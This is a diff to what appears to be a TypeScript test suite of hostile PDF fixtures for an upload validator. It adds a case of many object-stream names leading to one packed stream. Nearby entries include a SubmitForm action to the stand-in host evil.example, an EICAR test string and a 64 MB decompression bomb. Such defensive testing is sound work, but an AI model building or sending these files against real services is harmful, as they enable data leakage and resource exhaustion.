@@ -178,6 +178,11 @@ const documents: readonly HostileFile[] = [
   document('PDF that sends a form', () => make.pdfOf(['<< /S /SubmitForm /F (http://evil.example) >>'])),
   document('PDF with the virus test file', () => make.pdfOf([`(${eicar})`])),
   document('PDF whose packed objects swell', () => make.pdfOf([make.packedObjects(Buffer.alloc(64 * megabyte))]), 422),
+  document(
+    'PDF with many names that lead to one packed stream',
+    () => make.pdfOf([...Array.from({ length: 200 }, () => '<< /Type /ObjStm >>'), make.packedObjects('4 0 << >>')]),
+    201,
+  ),
   document('PDF that breaks off', () => make.pdfOf().subarray(0, 200), 422),
   document('the start of a PDF alone', () => latin('%PDF-'), 422),
   document('PDF of version 9', () => latin(make.pdfOf().toString('latin1').replace('1.7', '9.9')), 422),
